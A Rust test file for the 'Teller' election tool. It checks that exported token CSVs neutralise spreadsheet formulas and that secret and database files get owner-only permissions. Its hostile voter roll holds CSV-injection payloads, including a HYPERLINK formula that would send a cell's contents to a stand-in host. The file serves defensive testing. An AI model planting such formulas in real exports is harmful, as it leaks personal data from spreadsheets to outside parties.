//! Files Teller writes, read back as an attacker would: the mail-merge
//! `tokens.csv` opened in a spreadsheet (CSV injection), and the modes of the
//! database, secret, tokens file and data directory made by the real binary
//! under a permissive umask.
#![allow(clippy::unwrap_used)]

use crate::common;

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{read_tokens, Backend, TestApp};

/// A roll whose names, ids and e-mail addresses are spreadsheet formulas.
const HOSTILE_ROLL: &str = "member_id,name,email
\"=HYPERLINK(\"\"http://x/?\"\"&D2,\"\"x\"\")\",\"=HYPERLINK(\"\"http://x/?\"\"&D2,\"\"x\"\")\",a@example.org
+1,+1 Plus,b@example.org
@SUM(1),@SUM(1),+1@example.org
-2,-2,c@example.org
M5,Ada Lovelace,ada@example.org
";

fn starts_a_formula(cell: &str) -> bool {
    cell.trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of a CSV file, row by row (header included).
fn cells(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_path(path).unwrap();
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect()
}

async fn tokens_csv_is_safe_to_open_in_a_spreadsheet(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let toml = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/board-election.toml");
    let out = app.teller_ok(&["election", "create", toml.to_str().unwrap()]);
    let id = out.trim().lines().last().unwrap().to_string();
    let roll = app.path("hostile.csv");
    std::fs::write(&roll, HOSTILE_ROLL).unwrap();
    app.teller_ok(&["voters", "import", &id, roll.to_str().unwrap()]);
    let tokens = app.path("tokens.csv");
    app.teller_ok(&["tokens", "issue", &id, "--out", tokens.to_str().unwrap()]);

    let rows = cells(&tokens);
    assert_eq!(rows.len(), 6, "{rows:?}");
    for row in &rows {
        for cell in row {
            assert!(
                !starts_a_formula(cell),
                "a formula cell was written: {cell:?} in {row:?}"
            );
        }
    }
    let by_name = |name: &str| {
        rows.iter()
            .find(|r| r[1] == name)
            .unwrap_or_else(|| panic!("{name} in {rows:?}"))
    };
    let hyperlink = "=HYPERLINK(\"http://x/?\"&D2,\"x\")";
    let row = by_name(&format!("'{hyperlink}"));
    assert_eq!(row[0], format!("'{hyperlink}"));
    assert_eq!(by_name("'+1 Plus")[0], "'+1");
    let sum = by_name("'@SUM(1)");
    assert_eq!((sum[0].as_str(), sum[2].as_str()), ("'@SUM(1)", "'+1@example.org"));
    assert_eq!(by_name("'-2")[0], "'-2");
    // Cells that start no formula are written as they are.
    assert_eq!(&by_name("Ada Lovelace")[..3], ["M5", "Ada Lovelace", "ada@example.org"]);

    // The codes in the file still work.
    app.teller_ok(&["election", "open", &id]);
    let minus_two = read_tokens(&tokens)
        .into_iter()
        .find(|(member, _)| member == "'-2")
        .unwrap();
    let (status, body) = app.cast(&id, &minus_two.1, common::example_choices(0)).await;
    assert_eq!(status, 201, "{body}");

    // A replacement code written to a file (`tokens reissue --out`) too.
    let one = app.path("reissued.csv");
    app.teller_ok(&["tokens", "reissue", &id, "@SUM(1)", "--out", one.to_str().unwrap()]);
    let rows = cells(&one);
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[1][..3], ["'@SUM(1)", "'@SUM(1)", "'+1@example.org"]);
    assert!(rows.iter().flatten().all(|c| !starts_a_formula(c)));
}
on_both_backends!(
    tokens_csv_neutralises_formula_cells,
    tokens_csv_is_safe_to_open_in_a_spreadsheet
);

/// Run the real binary under umask 000, so that nothing but Teller's own
/// choice of mode keeps files from others.
fn teller_under_open_umask(args: &[&str], envs: &[(&str, &Path)]) -> Command {
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg("umask 000 && exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_teller"))
        .args(args)
        .env_remove("TELLER_MASTER_SECRET")
        .env_remove("TELLER_DATABASE_URL");
    for (k, v) in envs {
        c.env(k, v);
    }
    c
}

fn run_ok(mut c: Command) -> Output {
    let out = c.output().unwrap();
    assert!(
        out.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

#[test]
fn files_holding_personal_data_or_secrets_are_owner_only() {
    let dir = tempfile::tempdir().unwrap();
    // The command-line path: secret, database, roll and tokens.
    let key = dir.path().join("master.key");
    run_ok(teller_under_open_umask(&["secret", "new", key.to_str().unwrap()], &[]));
    let db = dir.path().join("teller.db");
    let env = [
        ("TELLER_DATABASE_URL", db.as_path()),
        ("TELLER_MASTER_SECRET_FILE", key.as_path()),
    ];
    let toml = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/board-election.toml");
    let out = run_ok(teller_under_open_umask(
        &["election", "create", toml.to_str().unwrap()],
        &env,
    ));
    let id = String::from_utf8(out.stdout)
        .unwrap()
        .trim()
        .lines()
        .last()
        .unwrap()
        .to_string();
    let roll = dir.path().join("members.csv");
    std::fs::write(&roll, common::roll_csv(3)).unwrap();
    run_ok(teller_under_open_umask(
        &["voters", "import", &id, roll.to_str().unwrap()],
        &env,
    ));
    let tokens = dir.path().join("tokens.csv");
    run_ok(teller_under_open_umask(
        &["tokens", "issue", &id, "--out", tokens.to_str().unwrap()],
        &env,
    ));
    for file in [&key, &db, &tokens] {
        assert_eq!(mode(file), 0o600, "{}", file.display());
    }

    // The demo: its data directory (and a parent it had to make), database
    // with its -wal and -shm while it runs, secret and tokens file.
    let parent = dir.path().join("new");
    let data = parent.join("demo");
    let mut demo = teller_under_open_umask(
        &[
            "demo",
            "--data-dir",
            data.to_str().unwrap(),
            "--listen",
            "127.0.0.1:0",
            "--members",
            "5",
        ],
        &[],
    )
    .stdout(Stdio::piped())
    .stderr(Stdio::null())
    .spawn()
    .unwrap();
    let stdout = demo.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            if let Some((_, id)) = line
                .split_once("Election page:")
                .and_then(|(_, url)| url.rsplit_once("/e/"))
            {
                let _ = tx.send(id.trim().to_string());
            }
        }
    });
    let started = Instant::now();
    let running = rx.recv_timeout(Duration::from_secs(60));
    let checked = std::panic::catch_unwind(|| {
        assert!(running.is_ok(), "the demo did not start in {:?}", started.elapsed());
        assert_eq!(mode(&parent), 0o700);
        assert_eq!(mode(&data), 0o700);
        for name in [
            "teller.db",
            "teller.db-wal",
            "teller.db-shm",
            "master.key",
            "tokens.csv",
        ] {
            assert_eq!(mode(&data.join(name)), 0o600, "{name}");
        }
    });
    demo.kill().unwrap();
    demo.wait().unwrap();
    if let Err(panic) = checked {
        std::panic::resume_unwind(panic);
    }

    // The demo's record verifies, as its banner tells a newcomer to check
    // (its log names actors in the forms of FORMAT.md §5 rule 6).
    let id = running.unwrap();
    let record = dir.path().join("demo-record.json");
    let out = Command::new(env!("CARGO_BIN_EXE_teller"))
        .args(["export", &id, "--out", record.to_str().unwrap()])
        .env("TELLER_DATABASE_URL", data.join("teller.db"))
        .env("TELLER_MASTER_SECRET_FILE", data.join("master.key"))
        .env("TELLER_LOG", "warn")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let file = std::fs::File::open(&record).unwrap();
    let report = teller_audit::verify::verify_reader(file, "record.json", &[], None).unwrap();
    assert!(report.ok(), "{report}");
}

#[test]
fn an_existing_database_others_can_read_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("old.db");
    std::fs::write(&db, b"").unwrap();
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_teller"))
        .args(["election", "list"])
        .env("TELLER_DATABASE_URL", &db)
        .env("TELLER_LOG", "warn")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("others may read it") && err.contains("chmod 600"), "{err}");
}
